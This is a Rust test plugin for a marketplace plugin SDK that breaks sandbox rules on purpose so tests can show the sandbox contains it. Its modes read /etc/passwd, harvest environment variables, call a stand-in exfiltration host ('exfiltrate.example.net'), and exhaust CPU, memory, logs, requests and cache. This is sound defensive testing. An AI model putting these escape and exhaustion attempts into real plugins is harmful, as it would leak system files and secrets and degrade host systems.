//! A marketplace plugin that misbehaves on purpose, chosen by the `mode`
//! setting, so tests can prove the sandbox contains it:
//!
//! | mode        | what `fetch-orders` does                                  |
//! |-------------|-----------------------------------------------------------|
//! | `loop`      | spins forever (the CPU deadline must stop it)              |
//! | `alloc`     | allocates without bound (the memory cap must stop it)      |
//! | `panic`     | panics (the message must reach the host's log and error)   |
//! | `read-file` | reads `/etc/passwd` (there must be no file system)         |
//! | `env`       | reads environment variables (there must be none)           |
//! | `host`      | calls a host it never declared (egress must refuse it)     |
//! | `requests`  | sends requests without end (the request budget must stop it) |
//! | `get`       | GETs `url` (with `Authorization: Bearer {{secret:token}}` when a `token` secret is set) and returns the status, headers and body in an order's tags |
//! | `log-flood` | logs `count` lines of `size` bytes (the log caps must bound it) |
//! | `big-error` | fails with an error message of `size` bytes (the host must cap it) |
//! | `hmac-loop` | calls the host's HMAC without end (host calls count against the deadline) |
//! | `pages`     | returns `count` orders of `size` bytes of tags per page, and always a next page |
//! | `cache`     | writes `count` cache entries of `size` bytes (the cache caps must bound it) |
//! | `bad-orders`| returns one good order and three the host must refuse (country `UK`, year 9999, an amount past any real one); `fetch-order` then returns BAD-UK corrected, BAD-9999 gone, BAD-HUGE still huge |
//! | `ok`        | returns one order built from its settings, no I/O          |
//!
//! Escapes that the sandbox prevents come back as `invalid-response`
//! errors describing what the OS said; a successful escape returns an
//! order whose number starts with `LEAKED`, which tests assert never happens.

use tradelane_plugin_sdk::{
    self as sdk, FulfillmentStatus, Manifest, ManifestExt, Marketplace, Order, OrderPage,
    OrderQuery, OrderStatus, PaymentStatus, Plugin, PluginError, Request, Settings, Totals,
};

struct Misbehave;

impl Plugin for Misbehave {
    fn manifest() -> Manifest {
        sdk::manifest(
            "misbehave",
            env!("CARGO_PKG_VERSION"),
            "Breaks the sandbox's rules on purpose (tests only)",
        )
        .setting(sdk::required(
            "mode",
            "loop | alloc | panic | read-file | env | host | requests | ok",
        ))
        .setting(sdk::setting(
            "url",
            "URL to hammer in `requests` mode, to GET in `get` mode",
        ))
        .setting(sdk::setting("count", "how many lines `log-flood` writes"))
        .setting(sdk::setting("size", "bytes per log line or error"))
        .setting(sdk::SettingSpec {
            required: false,
            ..sdk::secret("token", "a secret `get` sends as a bearer token")
        })
        .setting(sdk::setting(
            "send_token",
            "`false`: `get` does not send the token (the server may still know it)",
        ))
        .allow_host("127.0.0.1")
    }
}

impl Marketplace for Misbehave {
    fn fetch_order(settings: &Settings, external_id: String) -> sdk::Result<Option<Order>> {
        if settings.require("mode")? != "bad-orders" {
            return Err(sdk::unsupported("fetch-order"));
        }
        Ok(match external_id.as_str() {
            "BAD-UK" => Some(order("BAD-UK", "corrected")),
            "BAD-HUGE" => {
                let mut huge = order("BAD-HUGE", "bad-orders");
                huge.totals.total.amount_minor = i64::MAX;
                Some(huge)
            }
            _ => None,
        })
    }

    fn fetch_orders(settings: &Settings, query: OrderQuery) -> sdk::Result<OrderPage> {
        match settings.require("mode")? {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("misbehave was told to panic"),
            "read-file" => match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => leaked(&text),
                Err(e) => Err(PluginError::InvalidResponse(format!(
                    "read /etc/passwd: {e}"
                ))),
            },
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                match std::env::var("PATH") {
                    Ok(path) => leaked(&path),
                    Err(_) if vars.is_empty() => {
                        Err(PluginError::InvalidResponse("environment is empty".into()))
                    }
                    Err(_) => leaked(&vars.join(",")),
                }
            }
            "host" => {
                let response = Request::get("https://exfiltrate.example.net/collect").send()?;
                leaked(&format!("status {}", response.status))
            }
            "requests" => {
                let url = settings.require("url")?;
                loop {
                    Request::get(url).send()?;
                }
            }
            "get" => {
                let url = settings.require("url")?;
                let mut request = Request::get(url);
                if let Ok(token) = settings.secret("token")
                    && settings.get("send_token") != Some("false")
                {
                    request = request.bearer(&token);
                }
                let response = request.send()?;
                let mut tags = vec![format!("status {}", response.status)];
                for (name, value) in &response.headers {
                    tags.push(format!("{name}: {value}"));
                }
                tags.push(response.text());
                let mut o = order("GOT", "get");
                o.tags = tags;
                Ok(OrderPage {
                    orders: vec![o],
                    next_page: None,
                })
            }
            "print" => {
                // What a plugin author's debugging prints: to the log, not lost.
                println!("misbehave says hello on stdout");
                eprintln!("misbehave says hello on stderr");
                let count: usize = number(settings, "count", 0);
                for i in 0..count {
                    println!("line {i} {}", "y".repeat(100));
                }
                Ok(OrderPage {
                    orders: vec![order("PRINTED", "print")],
                    next_page: None,
                })
            }
            "log-flood" => {
                let count: usize = number(settings, "count", 100_000);
                let line = "x".repeat(number(settings, "size", 1 << 20));
                for _ in 0..count {
                    sdk::log(sdk::Level::Info, &line);
                }
                Ok(OrderPage {
                    orders: vec![order("FLOODED", "log-flood")],
                    next_page: None,
                })
            }
            "big-error" => Err(PluginError::InvalidResponse("e".repeat(number(
                settings,
                "size",
                8 << 20,
            )))),
            "hmac-loop" => {
                let message = vec![0u8; number(settings, "size", 1 << 16)];
                loop {
                    let _ = std::hint::black_box(sdk::hmac_sha256("token", &message));
                }
            }
            "pages" => {
                let page: u64 = query
                    .page_token
                    .as_deref()
                    .and_then(|t| t.parse().ok())
                    .unwrap_or(0);
                let filler = "f".repeat(number(settings, "size", 100));
                let orders = (0..number(settings, "count", 10))
                    .map(|i| {
                        let mut o = order(&format!("P{page}-{i}"), "pages");
                        o.tags = vec![filler.clone()];
                        o
                    })
                    .collect();
                Ok(OrderPage {
                    orders,
                    next_page: Some((page + 1).to_string()),
                })
            }
            "cache" => {
                let value = "c".repeat(number(settings, "size", 60_000));
                for i in 0..number(settings, "count", 10_000) {
                    sdk::cache_set(&format!("key-{i}"), &value, 86_400);
                }
                Ok(OrderPage {
                    orders: vec![order("CACHED", "cache")],
                    next_page: None,
                })
            }
            "bad-orders" => {
                let good = order("GOOD-1", "bad-orders");
                let mut uk = order("BAD-UK", "bad-orders");
                uk.shipping_address = Some(sdk::Address {
                    name: Some("Buyer".into()),
                    company: None,
                    line1: "1 High Street".into(),
                    line2: None,
                    city: "Leeds".into(),
                    region: None,
                    postal_code: Some("LS1 1AA".into()),
                    country: "UK".into(),
                    phone: None,
                    email: None,
                });
                let mut future = order("BAD-9999", "bad-orders");
                future.updated_at = "9999-12-31T00:00:00Z".into();
                let mut huge = order("BAD-HUGE", "bad-orders");
                huge.totals.total.amount_minor = i64::MAX;
                Ok(OrderPage {
                    orders: vec![good, uk, future, huge],
                    next_page: None,
                })
            }
            "ok" => Ok(OrderPage {
                orders: vec![order("OK-1", "ok")],
                next_page: None,
            }),
            other => Err(sdk::invalid("mode", &format!("unknown mode `{other}`"))),
        }
    }
}

/// A numeric setting, or `default`.
fn number(settings: &Settings, key: &str, default: usize) -> usize {
    settings
        .get(key)
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn leaked(what: &str) -> sdk::Result<OrderPage> {
    Ok(OrderPage {
        orders: vec![order("LEAKED", what)],
        next_page: None,
    })
}

fn order(number: &str, tag: &str) -> Order {
    let zero = sdk::money::zero("EUR");
    Order {
        external_id: number.to_string(),
        number: number.to_string(),
        created_at: "2026-01-01T00:00:00Z".into(),
        updated_at: "2026-01-01T00:00:00Z".into(),
        status: OrderStatus::Open,
        payment_status: PaymentStatus::Paid,
        fulfillment_status: FulfillmentStatus::Unfulfilled,
        currency: "EUR".into(),
        totals: Totals {
            subtotal: zero.clone(),
            shipping: zero.clone(),
            tax: zero.clone(),
            discount: zero.clone(),
            total: zero,
        },
        buyer: None,
        shipping_address: None,
        billing_address: None,
        line_items: Vec::new(),
        shipping_lines: Vec::new(),
        tax_ids: Vec::new(),
        marketplace_collected_tax: false,
        taxes_included: false,
        tags: vec![tag.chars().take(200).collect()],
        marketplace: None,
        fulfilled_by: sdk::FulfilledBy::Seller,
        shipping_hold: None,
        payment_gateways: Vec::new(),
        presentment_total: None,
    }
}

sdk::register_marketplace!(Misbehave);
